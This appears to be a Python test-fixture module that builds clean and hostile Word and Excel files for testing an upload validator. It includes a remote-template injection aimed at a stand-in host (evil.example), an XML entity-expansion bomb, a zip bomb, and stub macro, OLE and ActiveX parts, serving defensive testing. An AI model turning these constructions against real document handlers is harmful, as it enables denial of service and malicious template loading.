"""Clean and hostile Word/Excel files, built in code so no binary fixture is committed."""

from __future__ import annotations

import functools
import io
import zipfile

MACRO_DOCX_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
MACRO_XLSX_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
DOCX_MAIN = (
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
)
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


@functools.cache
def good_docx(text: str = "Tờ khai đăng ký kết hôn") -> bytes:
    import docx

    document = docx.Document()
    document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


@functools.cache
def good_xlsx(text: str = "Sổ theo dõi hồ sơ") -> bytes:
    import openpyxl  # type: ignore[import-untyped]

    workbook = openpyxl.Workbook()
    workbook.active["A1"] = text
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def rebuilt(
    data: bytes,
    *,
    replace: dict[str, bytes] | None = None,
    add: dict[str, bytes] | None = None,
) -> bytes:
    """A copy of an OOXML zip with some parts replaced or added."""
    replace, add = replace or {}, add or {}
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(
                info.filename, replace.get(info.filename, source.read(info))
            )
        for name, content in add.items():
            target.writestr(name, content)
    return buffer.getvalue()


def _content_types(data: bytes) -> bytes:
    return zipfile.ZipFile(io.BytesIO(data)).read("[Content_Types].xml")


def macro_docx() -> bytes:
    """A .docm renamed .docx: macro-enabled main part and a VBA project."""
    data = good_docx()
    types = _content_types(data).replace(DOCX_MAIN.encode(), MACRO_DOCX_MAIN.encode())
    return rebuilt(
        data,
        replace={"[Content_Types].xml": types},
        add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0VBA"},
    )


def macro_xlsx() -> bytes:
    """A .xlsm renamed .xlsx: only its content type says so."""
    data = good_xlsx()
    types = _content_types(data).replace(XLSX_MAIN.encode(), MACRO_XLSX_MAIN.encode())
    return rebuilt(data, replace={"[Content_Types].xml": types})


def vba_part_docx() -> bytes:
    """A plain content type, but a VBA project hidden among the parts."""
    return rebuilt(good_docx(), add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0VBA"})


def ole_docx() -> bytes:
    return rebuilt(
        good_docx(), add={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0OLE"}
    )


def activex_xlsx() -> bytes:
    return rebuilt(good_xlsx(), add={"xl/activeX/activeX1.xml": b"<ax/>"})


def remote_template_docx() -> bytes:
    """Template injection: settings.xml.rels points Word at a remote template."""
    rels = (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    return rebuilt(good_docx(), add={"word/_rels/settings.xml.rels": rels})


def entity_bomb_docx() -> bytes:
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
        b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'
    )
    return rebuilt(good_docx(), add={"word/bomb.xml": bomb})


def renamed_exe() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 200 + b"This program"


def plain_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "không phải biểu mẫu")
    return buffer.getvalue()


@functools.cache
def zip_bomb_docx(size: int = 80 * 1024 * 1024) -> bytes:
    """A valid DOCX with one part of zeros that inflates past the cap (a few hundred KB)."""
    data = good_docx()
    buffer = io.BytesIO(rebuilt(data))
    with (
        zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("word/media/zeros.bin", "w") as handle,
    ):
        chunk = b"\x00" * (1024 * 1024)
        for _ in range(size // len(chunk)):
            handle.write(chunk)
    return buffer.getvalue()


def many_parts_xlsx(count: int = 1200) -> bytes:
    return rebuilt(good_xlsx(), add={f"xl/media/p{i}.bin": b"x" for i in range(count)})


@functools.cache
def xml_bomb_docx(size: int = 20 * 1024 * 1024) -> bytes:
    """Little on disk, but more XML than the parsers are allowed to build trees from."""
    body = b"<w:p>" + b" " * size + b"</w:p>"
    return rebuilt(good_docx(), add={"word/big.xml": body})
